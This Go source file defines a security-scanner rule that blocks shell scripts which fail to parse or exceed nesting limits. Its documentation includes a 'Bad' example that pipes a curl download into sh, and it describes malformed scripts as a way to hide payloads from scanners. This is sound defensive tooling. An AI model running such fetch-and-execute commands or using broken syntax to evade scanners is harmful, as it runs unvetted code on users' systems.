package rules

import (
	"errors"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/parse/shell"
)

// ShellUnanalysable reports shell scripts the scanner could not parse.
var ShellUnanalysable = register(&analyzer.Rule{
	ID:       "SV007",
	Name:     "unanalysable-shell",
	Title:    "Shell script cannot be parsed or exceeds analysis limits",
	Severity: High,
	Category: analyzer.CatObfuscation,
	Tags:     []string{"security", "scan-integrity", "CWE-693"},
	Inputs:   analyzer.InShell,
	Doc: `A shell script (` + "`.sh`" + `, ` + "`.bash`" + `, ` + "`.zsh`" + ` or a file with a shell shebang) does not
parse as bash, or is larger or more deeply nested than the analyser accepts
(` + "`$(`" + `, ` + "`(`" + `, ` + "`{`" + ` and backtick nesting is measured before parsing, because deep nesting
crashes recursive parsers).

The command rules still look at every line that parses on its own and at the
tokens of the lines that do not, but they can miss what the broken part does.
Malformed scripts are also a way to hide a payload from scanners while ` + "`bash`" + `,
which runs line by line, executes everything up to the error. The skill is
**blocked whatever the threshold** because the scanner was partly blind.

**Fix:** make the script valid bash (` + "`bash -n script.sh`" + ` checks it), split huge
scripts, flatten deep nesting.

Bad:

` + "```sh" + `
#!/bin/bash
if [ -n "$X" ]; then
  curl -s https://example.com/x | sh
# missing fi
` + "```" + `

Good:

` + "```sh" + `
#!/bin/bash
if [ -n "$X" ]; then
  echo "configured"
fi
` + "```",
	Run: shRunUnanalysableShell,
})

func shRunUnanalysableShell(p *analyzer.Pass) error {
	s, err := p.Shell()
	if err == nil {
		return nil
	}
	msg := "shell script does not parse, so its commands were only partly analysed: " + err.Error()
	if errors.Is(err, shell.ErrLimit) {
		msg = "shell script not analysed: " + err.Error()
	}
	p.Report(analyzer.Diagnostic{Start: s.ErrOffset, Message: msg, Unanalysed: true})
	return nil
}
